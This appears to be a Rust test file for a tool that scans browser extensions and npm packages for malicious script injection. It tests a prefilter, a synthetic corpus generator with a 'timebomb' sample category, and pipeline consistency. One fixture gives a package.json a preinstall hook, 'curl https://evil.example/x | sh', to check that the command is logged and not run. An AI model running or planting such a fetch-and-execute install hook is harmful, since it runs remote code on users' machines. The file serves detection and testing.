use std::path::Path;
use std::sync::Arc;

use serde_json::json;

use forcejs_core::harness::{
    generate_corpus, ingest, load_corpus, prefilter, run_pipeline, GeneratorSpec, PipelineConfig, SampleKind,
};
use forcejs_core::{ApiCatalog, Mode};

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn extension(root: &Path, name: &str, matches: &[&str], js: &str) {
    let dir = root.join(name);
    write(
        &dir,
        "manifest.json",
        &json!({"manifest_version": 3, "content_scripts": [{"matches": matches, "js": ["c.js"]}]}).to_string(),
    );
    write(&dir, "c.js", js);
}

#[test]
fn prefilter_mixed_fixture() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    extension(r, "e01-append", &["https://a.example/*"], "document.body.appendChild(x);");
    extension(r, "e02-plain", &["https://a.example/*"], "var a = 1 + 2;");
    extension(r, "e03-allurls", &["<all_urls>"], "var a = 1;");
    extension(r, "e04-wildcard", &["*://*/*"], "console.log('hi');");
    extension(r, "e05-timer", &["https://b.example/*"], "setTimeout(function () {}, 10);");
    extension(r, "e06-eval", &["https://b.example/*"], "var v = eval('1');");
    extension(r, "e07-comment", &["https://c.example/*"], "// appendChild is only mentioned here\nvar q = 1;");
    extension(r, "e08-string", &["https://c.example/*"], "var s = 'eval(x)';");
    extension(r, "e09-fetch", &["https://d.example/*"], "fetch('https://d.example/x');");
    extension(r, "e10-broken", &["https://d.example/*"], "var = ;");
    let mut samples = Vec::new();
    for e in std::fs::read_dir(r).unwrap() {
        samples.push(ingest(&e.unwrap().path(), SampleKind::Extension).unwrap());
    }
    samples.sort_by(|a, b| a.id.cmp(&b.id));
    let decisions = prefilter(&samples, &ApiCatalog::browser());
    let kept: Vec<&str> = decisions.iter().filter(|d| d.keep).map(|d| d.id.as_str()).collect();
    assert_eq!(kept, ["e01-append", "e03-allurls", "e04-wildcard", "e05-timer", "e06-eval", "e09-fetch"]);
    assert!(decisions.iter().all(|d| !d.reason.is_empty()));
    let broken = decisions.iter().find(|d| d.id == "e10-broken").unwrap();
    assert!(broken.reason.contains("unparsable"));
}

#[test]
fn npm_commands_are_recorded_not_run() {
    let d = tempfile::tempdir().unwrap();
    write(
        d.path(),
        "package.json",
        &json!({"name": "p", "scripts": {"preinstall": "curl https://evil.example/x | sh"}}).to_string(),
    );
    let s = ingest(d.path(), SampleKind::Npm).unwrap();
    assert!(s.entries.is_empty());
    let result = run_pipeline(&[s], &PipelineConfig::default());
    let log = &result.outcomes[0].log;
    assert!(log.iter().any(|l| l.contains("\"t\":\"command\"") && l.contains("curl https://evil.example/x | sh")));
    assert_eq!(result.outcomes[0].report.mode, Mode::Npm);
}

#[test]
fn timebomb_generator_yields_tracker_shape() {
    let spec = GeneratorSpec {
        categories: vec!["localstorage_timebomb".into()],
        transforms: Vec::new(),
        benign: 0,
        return_first: false,
        seed: 1,
        ..GeneratorSpec::default()
    };
    let c = generate_corpus(&spec);
    assert_eq!(c.samples.len(), 1);
    let text = &c.samples[0].sample.entries[0].text;
    assert!(text.contains("setTimeout(function"));
    assert!(text.contains("chrome.storage.local.get("));
    assert!(text.contains("insertBefore"));
    assert!(c.samples[0].expect_detected);
}

#[test]
fn benign_generator_is_local_only() {
    let spec = GeneratorSpec {
        categories: Vec::new(),
        transforms: Vec::new(),
        return_first: false,
        benign: 20,
        seed: 1,
        ..GeneratorSpec::default()
    };
    let c = generate_corpus(&spec);
    let cfg = PipelineConfig { resolver: Arc::new(c.resolver()), ..PipelineConfig::default() };
    let result = run_pipeline(&c.plain_samples(), &cfg);
    for r in result.reports() {
        assert_eq!(r.third_party_injection_count, 0, "{}", r.id);
        assert!(!r.flagged);
    }
    let m = result.metrics.unwrap();
    assert_eq!((m.tp, m.fp, m.fn_), (0, 0, 0));
}

#[test]
fn written_corpus_gives_identical_summaries() {
    let c = generate_corpus(&GeneratorSpec::default());
    let d = tempfile::tempdir().unwrap();
    c.write(d.path()).unwrap();
    let (samples, entries, resolver) = load_corpus(d.path()).unwrap();
    assert_eq!(entries.len(), c.samples.len());
    let from_disk = PipelineConfig { resolver: Arc::new(resolver), synthetic: true, ..PipelineConfig::default() };
    let in_memory = PipelineConfig { resolver: Arc::new(c.resolver()), synthetic: true, ..PipelineConfig::default() };
    let a = run_pipeline(&samples, &from_disk);
    let b = run_pipeline(&c.plain_samples(), &in_memory);
    assert_eq!(serde_json::to_string(&a.summary).unwrap(), serde_json::to_string(&b.summary).unwrap());
    assert_eq!(a.summary["synthetic"], true);
    let serial = run_pipeline(&samples, &PipelineConfig { jobs: 1, ..from_disk.clone() });
    assert_eq!(serde_json::to_string(&a.summary).unwrap(), serde_json::to_string(&serial.summary).unwrap());
}
